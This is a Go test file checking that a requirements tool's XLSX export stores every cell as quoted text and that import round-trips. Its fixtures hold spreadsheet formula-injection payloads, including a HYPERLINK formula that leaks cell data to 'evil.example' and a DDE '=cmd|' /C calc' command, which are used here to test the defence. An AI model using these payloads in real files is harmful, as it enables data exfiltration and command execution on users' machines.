package interchange

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"io"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// formulaTexts are cells a spreadsheet would run if they were written as
// formulas, or read as numbers.
var formulaTexts = []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2", "@SUM(A1:A2)", "'=already quoted", "1.10", "007"}

// xlsxFixture is an export with every kind of cell: fields (one named like
// a fixed column), links with states, a heading, multi-line text with
// indentation and cells that start formulas.
func xlsxFixture() *Export {
	return &Export{SchemaVersion: ExportSchemaVersion, ProjectID: "fixture",
		Documents: []ExportDocument{{Path: "sys", Title: "System requirements"}, {Path: "sys/sw", Title: "Software"}},
		Requirements: []Row{
			{ID: "SYS-1", Document: "sys", Level: "1.0", Title: "Overview", Status: "", Normative: false, Text: "A heading's text.",
				Parents: []Link{}, Implements: []Link{}, Tests: []Link{}, Tags: []string{}, Fields: map[string]string{}, Reasons: []string{}},
			{ID: "SYS-2", Document: "sys", Level: "1.1", Title: formulaTexts[0], Status: "approved", Normative: true, Derived: true,
				Text:    "- a list item\n  continued\n\n" + strings.Join(formulaTexts, "\n"),
				Parents: []Link{}, Implements: []Link{{Ref: "src/a.go@Run", State: "stale", Reason: "changed"}},
				Tests: []Link{{Ref: "src/a_test.go@TestRun", State: "linked"}}, Tags: []string{"safety", "-1"},
				Fields: map[string]string{"status": "=1+1", "Owner": "@bob", "Rationale": "+because"}, Verified: true, Stale: true,
				Reasons: []string{"changed"}},
			{ID: "SW-1", Document: "sys/sw", Level: "1", Title: "-dash title", Status: "draft", Normative: true,
				Text: "=cmd|' /C calc'!A0", Parents: []Link{{Ref: "requirement:SYS-2", State: "stale", Reason: "parent_changed"}},
				Implements: []Link{}, Tests: []Link{}, Tags: []string{}, Fields: map[string]string{"Owner": "007"}, Reasons: []string{"parent_changed"}},
		}}
}

// TestXLSXRoundTrip: a workbook written by Export.XLSX reads back into the
// same ids, documents (with their titles), levels, titles, text, status,
// normative and derived flags, parents, links, tags and fields, every
// formula-like cell as it was.
func TestXLSXRoundTrip(t *testing.T) {
	x := xlsxFixture()
	data, err := x.XLSX("")
	if err != nil {
		t.Fatal(err)
	}
	res, err := ImportXLSX([]File{{Name: "fixture.xlsx", Data: data}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Unmapped) != 0 {
		t.Errorf("unmapped: %+v", res.Unmapped)
	}
	wantDocs := []Document{{Path: "sys", Title: "System requirements", From: "xlsx:fixture.xlsx"}, {Path: "sys/sw", Title: "Software", From: "xlsx:fixture.xlsx"}}
	if !reflect.DeepEqual(res.Documents, wantDocs) {
		t.Errorf("documents = %+v, want %+v", res.Documents, wantDocs)
	}
	byID := map[string]Item{}
	for _, it := range res.Items {
		byID[it.ID] = it
	}
	if len(byID) != len(x.Requirements) || res.Sections != 1 {
		t.Fatalf("read %d items (%d sections), want %d (1)", len(byID), res.Sections, len(x.Requirements))
	}
	for _, r := range x.Requirements {
		it := byID[r.ID]
		var parents, impl, tests []string
		for _, p := range it.Parents {
			parents = append(parents, "requirement:"+p.ID)
		}
		strip := func(ls []Link) []string {
			var out []string
			for _, l := range ls {
				out = append(out, l.Ref)
			}
			return out
		}
		impl, tests = it.Implements, it.Tests
		got := []any{it.Document, it.Level, it.Title, it.Text, it.Status, it.Normative, it.Derived, parents, impl, tests, it.Tags, it.Fields}
		want := []any{r.Document, r.Level, r.Title, r.Text, r.Status, r.Normative, r.Derived, strip(r.Parents), strip(r.Implements), strip(r.Tests), orNil(r.Tags), orNilMap(r.Fields)}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s read back as\n%#v\nwant\n%#v", r.ID, got, want)
		}
	}
	if it := byID["SW-1"]; !strings.HasPrefix(it.From, "xlsx:fixture.xlsx:sys-sw:2") {
		t.Errorf("SW-1 from = %q, want its sheet and row", it.From)
	}
}

func orNil(s []string) []string {
	if len(s) == 0 {
		return nil
	}
	return s
}

func orNilMap(m map[string]string) map[string]string {
	if len(m) == 0 {
		return nil
	}
	return m
}

// TestXLSXCellsAreText opens the workbook's XML: no cell is a formula or a
// number; every cell is a shared string; and a cell that starts a formula
// (=HYPERLINK(…), +, -, @) is stored with SafeCell's leading quote.
func TestXLSXCellsAreText(t *testing.T) {
	data, err := xlsxFixture().XLSX("")
	if err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	read := func(name string) []byte {
		f, err := zr.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		b, err := io.ReadAll(f)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	var sst struct {
		SI []struct {
			T string `xml:"t"`
		} `xml:"si"`
	}
	if err := xml.Unmarshal(read("xl/sharedStrings.xml"), &sst); err != nil {
		t.Fatal(err)
	}
	strs := map[string]bool{}
	for _, si := range sst.SI {
		strs[si.T] = true
	}
	sheets, cells := 0, 0
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/sheet") {
			continue
		}
		sheets++
		var ws struct {
			Rows []struct {
				C []struct {
					R string `xml:"r,attr"`
					T string `xml:"t,attr"`
					F *struct {
						Text string `xml:",chardata"`
					} `xml:"f"`
				} `xml:"c"`
			} `xml:"sheetData>row"`
		}
		if err := xml.Unmarshal(read(f.Name), &ws); err != nil {
			t.Fatal(err)
		}
		for _, r := range ws.Rows {
			for _, c := range r.C {
				cells++
				if c.F != nil || c.T != "s" {
					t.Errorf("%s %s: t=%q formula=%v, want a shared string and no formula", f.Name, c.R, c.T, c.F)
				}
			}
		}
	}
	if sheets != 5 || cells < 60 {
		t.Errorf("%d sheets, %d cells; want the 2 documents, Matrix, Coverage and Documents", sheets, cells)
	}
	for _, s := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+because", "'-dash title", "'@bob", "'=cmd|' /C calc'!A0", "'=1+1", "007"} {
		if !strs[s] {
			t.Errorf("no shared string %q", s)
		}
	}
	for s := range strs {
		if s != "" && strings.ContainsRune("=+-@", rune(s[0])) {
			t.Errorf("shared string %q starts a formula", s)
		}
	}
	// The text cell holds the whole multi-line text, each formula line as
	// written: only a cell's start is quoted.
	if text := "'- a list item\n  continued\n\n" + strings.Join(formulaTexts, "\n"); !strs[text] {
		t.Errorf("no shared string %q", text)
	}
}

// TestXLSXDeterministic: two exports of the same content are the same
// bytes; the date given is the one the properties record.
func TestXLSXDeterministic(t *testing.T) {
	a, err := xlsxFixture().XLSX("")
	if err != nil {
		t.Fatal(err)
	}
	b, err := xlsxFixture().XLSX("")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a, b) {
		t.Fatalf("two exports differ (%d and %d bytes)", len(a), len(b))
	}
	c, err := xlsxFixture().XLSX("2026-12-01T10:00:00Z")
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(c))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	props, err := f.GetDocProps()
	if err != nil || props.Created != "2026-12-01T10:00:00Z" || props.Modified != props.Created || props.Creator != "tracewiki" {
		t.Errorf("properties = %+v, %v", props, err)
	}
}

// TestXLSXSheets: frozen header rows and filters on every sheet, sheet
// names that spreadsheets accept, unique whatever the documents are named.
func TestXLSXSheets(t *testing.T) {
	x := xlsxFixture()
	x.Requirements[2].Document = "matrix" // a document named like a computed sheet
	long := strings.Repeat("a-very-long-document-name/", 3)
	x.Requirements = append(x.Requirements, Row{ID: "L-1", Document: long + "x", Normative: true}, Row{ID: "L-2", Document: long + "y", Normative: true})
	data, err := x.XLSX("")
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	want := []string{"sys", "matrix 2", "a-very-long-document-name-a-ver", "a-very-long-document-name-a-v 2", MatrixSheet, CoverageSheet, DocumentsSheet}
	if got := f.GetSheetList(); !slices.Equal(got, want) {
		t.Fatalf("sheets = %q, want %q", got, want)
	}
	for _, s := range want {
		panes, err := f.GetPanes(s)
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: panes %+v, %v; want the header row frozen", s, panes, err)
		}
	}
	if names := f.GetDefinedName(); len(names) != len(want) {
		t.Errorf("%d filters (_FilterDatabase names), want one per sheet: %+v", len(names), names)
	}
	cov, _ := f.GetRows(CoverageSheet)
	if len(cov) < 2 || !slices.Equal(cov[1], []string{"(all)", "fixture", "4", "0", "0", "1", "1"}) {
		t.Errorf("coverage rows = %q", cov)
	}
}

// TestXLSXTooLongCell: a cell longer than a spreadsheet holds is an error
// naming the requirement, not a cut text.
func TestXLSXTooLongCell(t *testing.T) {
	x := xlsxFixture()
	x.Requirements[1].Text = strings.Repeat("é", maxCellChars+1)
	_, err := x.XLSX("")
	if err == nil || !strings.Contains(err.Error(), "requirement SYS-2: its text is 32768 characters") {
		t.Errorf("err = %v", err)
	}
}

// TestImportXLSXByHand: a workbook a person made: columns in another
// order, no computed columns, an unknown column (a field), a sheet without
// an id column, a row without an id and a bad flag, each reported.
func TestImportXLSXByHand(t *testing.T) {
	f := excelize.NewFile()
	rows := [][]any{
		{"Title", "ID", "Owner", "parents", "normative", "text"},
		{"First", "H-1", "ann", "", "yes?", "Body"},
		{"Second", "H-2", "", "requirement:H-1 (stale); H-1", "", ""},
		{"Orphan", "", "bob"},
	}
	for i, r := range rows {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if err := f.SetSheetRow("Sheet1", cell, &r); err != nil {
			t.Fatal(err)
		}
	}
	if err := f.SetCellFormula("Sheet1", "C3", `CONCAT("b","ob")`); err != nil {
		t.Fatal(err)
	}
	if _, err := f.NewSheet("Notes"); err != nil {
		t.Fatal(err)
	}
	f.SetCellStr("Notes", "A1", "just notes")
	buf, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	res, err := ImportXLSX([]File{{Name: "hand.xlsx", Data: buf.Bytes()}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Items) != 2 {
		t.Fatalf("items = %+v", res.Items)
	}
	h1, h2 := res.Items[0], res.Items[1]
	if h1.Document != "sheet1" || h1.Title != "First" || h1.Text != "Body" || !h1.Normative || !reflect.DeepEqual(h1.Fields, map[string]string{"Owner": "ann"}) {
		t.Errorf("H-1 = %+v", h1)
	}
	if len(h2.Parents) != 2 || h2.Parents[0].ID != "H-1" || h2.Parents[1].ID != "H-1" {
		t.Errorf("H-2 parents = %+v", h2.Parents)
	}
	var got []string
	for _, u := range res.Unmapped {
		got = append(got, u.Where+" | "+u.What+" | "+u.Why)
	}
	want := []string{
		"hand.xlsx:Notes | sheet Notes | no id column in its first row: not a requirement sheet",
		`hand.xlsx:Sheet1!C3 | formula =CONCAT("b","ob") | read as the value it last computed, `,
		"hand.xlsx:Sheet1:4 | row | no id",
		"xlsx:hand.xlsx:Sheet1:2 | normative yes? | not true or false: normative kept as true",
	}
	// The cached value is whatever excelize left in the cell: compare the
	// formula's line up to it.
	if len(got) > 1 && strings.HasPrefix(got[1], want[1]) {
		got[1] = want[1]
	}
	if !slices.Equal(got, want) {
		t.Errorf("unmapped:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if _, err := ImportXLSX([]File{{Name: "a.txt", Data: []byte("x")}}); err == nil {
		t.Error("no .xlsx file: no error")
	}
	if _, err := ImportXLSX([]File{{Name: "bad.xlsx", Data: []byte("not a zip")}}); err == nil || !strings.Contains(err.Error(), "bad.xlsx: not a workbook") {
		t.Errorf("a file that is not a workbook: err = %v", err)
	}
}

// TestOnlyDocument: export --document keeps a document and those nested
// in it; a document without requirements is an error.
func TestOnlyDocument(t *testing.T) {
	x := xlsxFixture()
	if err := x.OnlyDocument("sys/sw"); err != nil || len(x.Requirements) != 1 || len(x.Documents) != 1 {
		t.Errorf("sys/sw: %d requirements, %d documents, %v", len(x.Requirements), len(x.Documents), err)
	}
	x = xlsxFixture()
	if err := x.OnlyDocument("sys"); err != nil || len(x.Requirements) != 3 {
		t.Errorf("sys: %d requirements, %v", len(x.Requirements), err)
	}
	if err := xlsxFixture().OnlyDocument("sy"); err == nil {
		t.Error("a prefix of a document's name: no error")
	}
}
